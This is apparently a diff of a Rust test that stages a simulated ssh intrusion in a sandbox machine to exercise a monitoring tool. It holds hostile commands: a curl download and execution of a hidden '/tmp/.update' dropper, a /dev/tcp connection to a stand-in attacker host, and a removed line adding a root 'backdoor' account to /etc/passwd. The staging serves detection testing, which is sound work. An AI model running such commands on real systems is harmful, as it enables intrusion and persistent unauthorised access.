@@ -54,13 +54,35 @@ probes = [socket.create_connection(("127.0.113.1", port), source_address=("127.0
 time.sleep(2)
 "#;
 
+/// Devices of the machine's own, so that it can have a log.
+const DEVICES: &str = r#"
+mount -t tmpfs tmpfs /var/log
+mkdir /run/dev && mount -t tmpfs tmpfs /run/dev
+for device in null zero full random urandom tty; do touch /run/dev/$device; mount --bind /dev/$device /run/dev/$device; done
+mkdir /run/dev/pts /run/dev/shm && mount --rbind /dev/pts /run/dev/pts && mount --bind /dev/shm /run/dev/shm
+ln -s /proc/self/fd /run/dev/fd; ln -s pts/ptmx /run/dev/ptmx
+mount --move /run/dev /dev
+"#;
+
+/// What a bare machine lacks: who writes what programs log (syslog(3)) where sshd's lines are looked for.
+const SYSLOG: &str = r#"
+import re, socket
+s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+s.bind("/dev/log")
+while True:
+    line = s.recv(8192).decode(errors="replace")
+    match = re.match(r"<\d+>(\w+ +\d+ [\d:]+) (.*)", line, re.S)
+    if match:
+        with open("/var/log/auth.log", "a") as log: log.write(f"{match[1]} host {match[2]}\n")
+"#;
+
 /// What the intruder does, behind a login by ssh.
 const INTRUSION: &str = r#"
 say shell
 curl -s -o /tmp/.update http://127.0.113.66:8000/update
 say downloaded
 chmod +x /tmp/.update
-/tmp/.update -c 'exec 3<>/dev/tcp/127.0.113.66/4444; echo hello >&3; sleep 5; exit' &
+/tmp/.update -c 'exec 3<>/dev/tcp/127.0.113.66/4444; echo hello >&3; for i in 1 2 3 4 5; do sleep 1; done' &
 say_as dropper $!
 sleep 1
 rm /tmp/.update
@@ -87,7 +109,7 @@ pub(crate) struct Deed {
     pub(crate) at: i64,
 }
 
-/// The machine after it all, its bundles in [`Scene::BUNDLES`].
+/// The machine after it all, its bundles in its spool.
 pub(crate) struct Scene {
     /// The machine.
     pub(crate) machine: Machine,
@@ -95,19 +117,16 @@ pub(crate) struct Scene {
 }
 
 impl Scene {
-    /// Where the record waits.
-    pub(crate) const BUNDLES: &str = "/dev/shm/pofr";
-
     /// Plays and records it all; `None`, loudly, where no such machine can be made.
     pub(crate) fn play() -> Option<Self> {
-        let mut machine = match Machine::start(Kind::Client, &[&program("pofrc"), &program("pofrs")]) {
+        let machine = match Machine::start(Kind::Client, &[&program("pofrc"), &program("pofrs")]) {
             Ok(machine) => machine,
             Err(error) => {
                 eprintln!("SKIPPED: no machine can be made here: {error}");
                 return None;
             }
         };
-        set_up(&mut machine);
+        set_up(&machine);
         machine.text("pofrc start --detach --interval 100ms --bundle 4s --max-cpu 100% --watch /etc/cron.d --watch /tmp");
         wait(2);
         machine.text("date +%s%6N > /run/before");
@@ -126,10 +145,9 @@ impl Scene {
         let intrusion = "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -i /root/key \
                          -b 127.0.113.66 mallory@127.0.113.1 bash -l -s < /root/intrusion.sh";
         machine.text(intrusion);
-        machine.text("echo 'backdoor:x:0:0::/root:/bin/bash' >> /etc/passwd");
-        wait(8);
+        wait(2);
         machine.text("date +%s%6N > /run/after");
-        machine.text("pofrc stop; pkill -f /root/servers.py");
+        machine.text("pofrc stop");
         let mut said = machine.text("cat /run/said");
         for mark in ["before", "after"] {
             said.push_str(&format!("{mark} 0 {}", machine.text(&format!("cat /run/{mark}"))));
@@ -144,7 +162,8 @@ impl Scene {
     }
 }
 
-fn set_up(machine: &mut Machine) {
+fn set_up(machine: &Machine) {
+    machine.text(DEVICES);
     for user in ["toma", "nathanp", "mallory"] {
         machine.text(&format!("useradd --create-home --shell /bin/bash {user} && passwd -q -d {user}"));
     }
@@ -161,7 +180,11 @@ fn set_up(machine: &mut Machine) {
     machine.text("mkdir -p /home/mallory/.ssh && ssh-keygen -q -N '' -t ed25519 -f /root/key");
     machine.text("cp /root/key.pub /home/mallory/.ssh/authorized_keys && chown -R mallory /home/mallory");
     machine.text("echo 'ListenAddress 127.0.113.1' >> /etc/ssh/sshd_config");
-    machine.start_sshd().unwrap();
+    // With a log, which the one that the machine starts has not.
+    machine.write("/root/syslog.py", SYSLOG);
+    machine.text("setsid python3 /root/syslog.py > /dev/null 2>&1 &");
+    until(machine, "test -S /dev/log");
+    machine.text("touch /var/log/auth.log && /usr/sbin/sshd");
     // By this machine's clock on the wall it is some time after two in the morning.
     let hour: i64 = machine.text("date -u +%H").trim().parse().unwrap();
     let east = (2 - hour + 36) % 24 - 12;
